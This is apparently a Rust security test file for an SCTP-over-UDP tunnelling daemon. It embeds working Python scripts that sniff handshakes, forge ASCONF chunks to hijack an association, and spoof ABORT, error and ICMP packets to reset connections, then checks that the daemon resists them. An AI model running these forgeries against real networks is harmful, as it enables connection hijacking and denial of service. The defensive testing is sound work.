//! Tests that neither a program at the client's address nor an observer of the handshake can take over or
//! reset a connection.

use crate::keys::{KEY, give_key};
use crate::world::{LIMIT, PORT, UNENCRYPTED, World, status};
use std::time::Duration;
use testbed::process::wait_for;
use testbed::{Host, Offloads, Process};

/// Source port of the victim, which the attacker knows.
const FROM: u16 = 45_678;
/// Duration of an attack. In this time, the attacker can send ten INITs, or answer many HEARTBEATs.
const ATTACK: Duration = Duration::from_secs(4);

/// Time for which a victim reads from its server during forgeries, in seconds.
const FORGED_FOR: u64 = 12;

/// Configuration that uses UDP only. UDP needs no privilege, so a program of another user can send SCTP
/// packets.
const BY_UDP: &str = "carriers = \"udp\"";

/// Prelude of the attacks: builds and parses packets of SCTP over UDP.
const SCTP: &str = "
import hashlib, hmac, json, select, socket, struct, sys, time
TABLE = []
for n in range(256):
    for _ in range(8): n = n >> 1 ^ (0x82f63b78 if n & 1 else 0)
    TABLE.append(n)
def crc32c(data):
    crc = 0xffffffff
    for byte in data: crc = crc >> 8 ^ TABLE[(crc ^ byte) & 255]
    return crc ^ 0xffffffff
def padded(data): return data + bytes(-len(data) % 4)
def chunk(kind, value, flags=0): return struct.pack('!BBH', kind, flags, 4 + len(value)) + value
def parameter(kind, value): return padded(struct.pack('!HH', kind, 4 + len(value)) + value)
def packet(source, to, tag, *chunks):
    body = b''.join(padded(c) for c in chunks)
    head = struct.pack('!HHI', source, to, tag)
    return head + struct.pack('<I', crc32c(head + bytes(4) + body)) + body
def chunks_of(data):
    at = 12
    while at + 4 <= len(data):
        kind, _, length = struct.unpack('!BBH', data[at:at + 4])
        if length < 4: return
        yield kind, data[at + 4:at + length]
        at += length + -length % 4
def parameters_of(data):
    at = 0
    while at + 4 <= len(data):
        kind, length = struct.unpack('!HH', data[at:at + 4])
        if length < 4: return
        yield kind, data[at:at + length]
        at += length + -length % 4
def received(sock, seconds):
    return sock.recvfrom(65535) if select.select([sock], [], [], seconds)[0] else (b'', None)
";

/// Attempts a restart of another client's association. The arguments are the server's address and port, the
/// client's port, and the duration in seconds.
const RESTART: &str = "
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind(('', 0))
server, port, client, end = (sys.argv[1], 9899), int(sys.argv[2]), int(sys.argv[3]), time.time() + float(sys.argv[4])
extensions = parameter(0x8008, bytes([194])) + parameter(0xc006, struct.pack('!I', 0x73637466)) + parameter(0x8005, bytes(200))
init = chunk(1, struct.pack('!IIHHI', 77, 1 << 20, 1, 1, 100) + extensions)
answers = []
while time.time() < end:
    sock.sendto(packet(client, port, 0, init), server)
    data, _ = received(sock, 0.4)
    for kind, value in chunks_of(data):
        answers.append(kind)
        for name, raw in parameters_of(value[16:]) if kind == 2 else []:
            tag = struct.unpack('!I', value[:4])[0]
            if name == 7: sock.sendto(packet(client, port, tag, chunk(10, raw[4:])), server)
print('answered by', answers)
";

/// Prints the INIT and INIT ACK of the first association on an interface. The arguments are the interface and
/// the server's port.
const OBSERVE: &str = "
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
sock.bind((sys.argv[1], 0))
print('observing', flush=True)
seen = {}
while len(seen) < 2:
    frame = sock.recv(65535)
    if frame[12:14] != b'\\x08\\x00' or frame[23] != 17: continue
    ip = frame[14:]
    data = ip[(ip[0] & 15) * 4 + 8:]
    for kind, value in chunks_of(data):
        source, to = struct.unpack('!HH', data[:4])
        if kind not in (1, 2) or int(sys.argv[2]) not in (source, to): continue
        tag, initial = struct.unpack('!I', value[:4])[0], struct.unpack('!I', value[12:16])[0]
        raw = dict(parameters_of(value[16:]))
        vector = b''.join(raw[k] for k in (0x8002, 0x8003, 0x8004) if k in raw).hex()
        seen['init' if kind == 1 else 'ack'] = dict(tag=tag, initial=initial, vector=vector, port=source)
print('seen ' + json.dumps(seen), flush=True)
";

/// Requests the addition of the attacker's address, in an ASCONF that is signed with the empty key. Answers
/// every HEARTBEAT. The arguments are the output of [`OBSERVE`], the addresses of the client, the server and
/// the attacker, and the duration in seconds.
const ASCONF: &str = "
seen, (client, server, own), end = json.loads(sys.argv[1]), sys.argv[2:5], time.time() + float(sys.argv[5])
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind((own, 9899))
small, large = sorted((bytes.fromhex(seen[end]['vector']) for end in ('init', 'ack')), key=lambda v: (len(v), v))
ports, tag = (seen['init']['port'], seen['ack']['port']), seen['ack']['tag']
def address(text): return parameter(5, socket.inet_aton(text))
def asconf(serial, *changes):
    body = chunk(0xc1, struct.pack('!I', serial & 0xffffffff) + address(client) + b''.join(changes))
    head = chunk(15, struct.pack('!HH', 0, 3) + bytes(32))
    mac = hmac.new(small + large, head + padded(body), hashlib.sha256).digest()
    return packet(*ports, tag, chunk(15, struct.pack('!HH', 0, 3) + mac), body)
def add(text): return parameter(0xc001, struct.pack('!I', 1) + address(text))
first, count, kinds = seen['init']['initial'], 0, set()
while time.time() < end:
    sock.sendto(asconf(first, add('0.0.0.0')), (server, 9899))
    data, source = received(sock, 0.2)
    for kind, value in chunks_of(data):
        kinds.add(kind)
        if kind == 4:
            count += 1
            sock.sendto(packet(*ports, tag, chunk(5, value)), source)
print('answered', count, 'HEARTBEATs; kinds of chunks', sorted(kinds))
";

/// Forges packets from the client to the server, as an observer of the path can. The arguments are the output
/// of [`OBSERVE`], the addresses of the client and the server, the kind of forgery, and the duration in
/// seconds.
const FORGE: &str = "
seen, (client, server, what), end = json.loads(sys.argv[1]), sys.argv[2:5], time.time() + float(sys.argv[5])
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
ports, tag, own = (seen['init']['port'], seen['ack']['port']), seen['ack']['tag'], seen['init']['tag']
def ip(protocol, source, to, body):
    return struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0) + socket.inet_aton(source) + socket.inet_aton(to) + body
def udp(body): return struct.pack('!HHHH', 9899, 9899, 8 + len(body), 0) + body
def inet(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def icmp(code):
    quoted = ip(17, server, client, udp(struct.pack('!HHII', ports[1], ports[0], own, 0) + bytes(8)))
    body = struct.pack('!BBHI', 3, code, 0, 0) + quoted
    return ip(1, client, server, body[:2] + struct.pack('!H', inet(body)) + body[4:])
def sctp(*chunks): return ip(17, client, server, udp(packet(*ports, tag, *chunks)))
forged = {
    'abort': [sctp(chunk(6, b'')), ip(17, client, server, udp(packet(*ports, own, chunk(6, b'', 1))))],
    'fault': [sctp(chunk(4, b'')), sctp(chunk(0x84, b''), struct.pack('!BBH', 0x84, 0, 400))],
    'icmp': [icmp(3), icmp(1)],
}
sent = 0
while time.time() < end:
    for datagram in forged[what]:
        out.sendto(datagram, (server, 0))
        sent += 1
    time.sleep(0.03)
print('sent', sent)
";

/// Kinds of forgeries.
const FORGERIES: [&str; 3] = ["abort", "fault", "icmp"];

/// Sends a word to each client on port argv[1] every 0.2 s.
const SERVER: &str = "
import socket, sys, threading, time
def serve(client):
    while True:
        client.sendall(b'tick')
        time.sleep(0.2)
listener = socket.create_server(('', int(sys.argv[1])))
print('listening', flush=True)
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
";

/// Connects to argv[1]:argv[2] from port argv[3], and reads for argv[4] seconds. Prints the number of
/// received words.
const CLIENT: &str = "
import socket, sys, time
stream = socket.create_connection((sys.argv[1], int(sys.argv[2])), 20, ('', int(sys.argv[3])))
end, heard = time.time() + float(sys.argv[4]), 0
print('connected', flush=True)
while time.time() < end:
    data = stream.recv(100)
    assert data, 'the server has gone'
    heard += len(data) // 4
print('heard', heard)
";

fn python(host: &Host, program: &str, args: &[String]) -> std::process::Command {
    let mut command = host.command("python3");
    command.args(["-u", "-c", program]).args(args);
    command
}

/// Starts a server on beta, and a client on alpha that reads from this server for `seconds`. Returns both
/// processes.
fn victim(world: &World, seconds: u64) -> (Process, Process) {
    let server = world.serve("python3", &["-u", "-c", SERVER, &PORT.to_string()]);
    let args = [world.link.right_v4().to_string(), PORT.to_string(), FROM.to_string(), seconds.to_string()];
    let mut client = world.alpha.spawn("victim", python(&world.alpha, CLIENT, &args)).unwrap();
    client.wait_until("connected", LIMIT, |process| process.stdout().contains("connected")).unwrap();
    (server, client)
}

/// Like [`victim`], but also returns the output of [`OBSERVE`].
fn observed_victim(world: &World, seconds: u64) -> (Process, Process, String) {
    let args = [world.link.name(), PORT.to_string()];
    let mut observer =
        world.beta.spawn("observer", python(&world.beta, &format!("{SCTP}{OBSERVE}"), &args)).unwrap();
    observer.wait_until("observing", LIMIT, |process| process.stdout().contains("observing")).unwrap();
    let (server, client) = victim(world, seconds);
    let output = observer.finish(LIMIT).unwrap().good().unwrap().stdout;
    let seen = output.lines().find_map(|line| line.strip_prefix("seen ")).expect("a handshake").to_owned();
    (server, client, seen)
}

/// Asserts that the victim's connection used SCTP, and that its server sent without an interruption.
fn was_left_alone(world: &World, client: Process, seconds: u64) {
    let output = client.finish(LIMIT).unwrap().good().unwrap().stdout;
    let heard: u64 = output.split_whitespace().next_back().unwrap().parse().unwrap();
    assert!(heard >= seconds * 4, "{output}");
    assert_eq!(world.connects_sctp(), 1, "{}", world.fallbacks());
}

#[test]
#[ignore = "needs root: makes network namespaces"]
fn packets_from_another_port_of_the_clients_host_reset_no_connection() {
    let world = World::with(BY_UDP, true);
    let (_server, client) = victim(&world, 8);
    let args =
        [world.link.right_v4().to_string(), PORT.to_string(), FROM.to_string(), ATTACK.as_secs().to_string()];
    let attack = python(&world.alpha, &format!("{SCTP}{RESTART}"), &args);
    let output = world.alpha.run("attack", attack, LIMIT).unwrap().good().unwrap().stdout;
    assert!(output.contains("answered by []"), "{output}");
    was_left_alone(&world, client, 8);
}

#[test]
#[ignore = "needs root: makes network namespaces"]
fn an_observer_of_the_handshake_moves_no_association_to_its_address() {
    let world = World::with(BY_UDP, true);
    let eve = world.lab.host("eve").unwrap();
    let side = world.lab.join(&eve, &world.beta, 3, Offloads::Off).unwrap();
    eve.ip(&["route", "add", "default", "via", &side.right_v4().to_string()]).unwrap();
    let betas = world.betas.as_ref().unwrap();
    let (_server, client, seen) = observed_victim(&world, 10);
    let own = side.left_v4().to_string();
    let args = [
        seen,
        world.link.left_v4().to_string(),
        world.link.right_v4().to_string(),
        own.clone(),
        ATTACK.as_secs().to_string(),
    ];
    let output =
        eve.run("attack", python(&eve, &format!("{SCTP}{ASCONF}"), &args), LIMIT).unwrap().good().unwrap();
    assert!(output.stdout.contains("answered 0 HEARTBEATs; kinds of chunks []"), "{}", output.stdout);
    let paths = betas.sctpify(&["paths"]).unwrap().good().unwrap().stdout;
    assert!(!paths.contains(&own), "{paths}");
    was_left_alone(&world, client, 10);
    assert!(wait_for(LIMIT, || status(betas)["connections"].as_array().is_some_and(Vec::is_empty)));
}

/// Attacks a victim as an observer on the path, with each of these forgeries in turn. Returns the world, and
/// the victim's server and client.
fn forged(configuration: &str, key: Option<&str>, what: &[&str]) -> (World, Process, Process) {
    // With these settings, the association has only one path. An ICMP error about this path then affects the
    // whole association.
    let world = World::with(&format!("{configuration}{BY_UDP}\ninterfaces = \"10.77.0.0/16\""), true);
    for (host, daemon) in [(&world.alpha, &world.alphas), (&world.beta, world.betas.as_ref().unwrap())] {
        give_key(host, daemon, key);
    }
    let (server, client, seen) = observed_victim(&world, FORGED_FOR);
    for what in what {
        let (from, to) = (world.link.left_v4().to_string(), world.link.right_v4().to_string());
        let args = [seen.clone(), from, to, (*what).to_owned(), "2.5".to_owned()];
        let attack = python(&world.alpha, &format!("{SCTP}{FORGE}"), &args);
        let output = world.alpha.run("attack", attack, LIMIT).unwrap().good().unwrap().stdout;
        assert!(output.contains("sent"), "{output}");
    }
    (world, server, client)
}

#[test]
#[ignore = "needs root: makes network namespaces"]
fn an_observer_without_the_key_cannot_end_connections_of_hosts_with_a_shared_key() {
    // The control: without a key, each kind of forgery ends a connection.
    for what in FORGERIES {
        let (_world, _server, client) = forged(UNENCRYPTED, None, &[what]);
        let output = client.finish(LIMIT).unwrap();
        assert!(!output.status.success(), "{what} is not forged well: {}", output.stdout);
    }
    let (world, _server, client) = forged(UNENCRYPTED, Some(KEY), &FORGERIES);
    was_left_alone(&world, client, FORGED_FOR);
}

#[test]
#[ignore = "needs root: makes network namespaces"]
fn an_observer_ends_no_connection_of_hosts_that_encrypt() {
    let (world, _server, client) = forged("", None, &FORGERIES);
    was_left_alone(&world, client, FORGED_FOR);
}
